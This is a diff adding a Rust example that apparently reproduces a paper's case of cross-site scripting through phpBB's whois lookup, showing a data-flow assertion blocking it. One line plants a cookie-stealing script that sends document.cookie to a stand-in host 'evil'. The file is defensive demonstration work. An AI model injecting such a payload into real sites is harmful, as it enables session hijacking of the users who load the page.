@@ -1,0 +1,57 @@
+//! Cross-site scripting through the unusual whois path (paper §6.3).
+//!
+//! phpBB fetched whois records and pasted them into HTML. The adversary
+//! plants JavaScript in a record. The same high-level assertion that
+//! guards form input catches this path too, because the whois response
+//! crosses the socket boundary and arrives untrusted.
+//!
+//! ```text
+//! cargo run --example xss_whois
+//! ```
+
+use resin::apps::Forum;
+use resin::core::{Acl, Right};
+use resin::web::Response;
+
+fn attempt(resin: bool) {
+    println!(
+        "--- phpBB whois, assertion {} ---",
+        if resin { "ON" } else { "off" }
+    );
+    let mut forum = Forum::new(resin);
+    forum.create_forum(
+        "public",
+        Acl::new().grant("*", &[Right::Read, Right::Write]),
+    );
+
+    // The adversary controls their own whois record.
+    forum.whois.set_record(
+        "evil.example",
+        "<script>document.location='http://evil/?c='+document.cookie</script>",
+    );
+
+    // A moderator runs the forum's whois feature on the domain.
+    let mut browser = Response::for_user("moderator");
+    match forum.whois_lookup("evil.example", &mut browser) {
+        Ok(()) => println!(
+            "record rendered; script present: {}",
+            browser.body().contains("<script>")
+        ),
+        Err(e) => println!("prevented: {e}"),
+    }
+
+    // The sanitized lookup works under the assertion.
+    let mut safe = Response::for_user("moderator");
+    forum
+        .whois_lookup_sanitized("evil.example", &mut safe)
+        .expect("sanitized path must pass");
+    println!(
+        "sanitized render shows escaped text: {}",
+        safe.body().contains("&lt;script&gt;")
+    );
+}
+
+fn main() {
+    attempt(false);
+    attempt(true);
+}
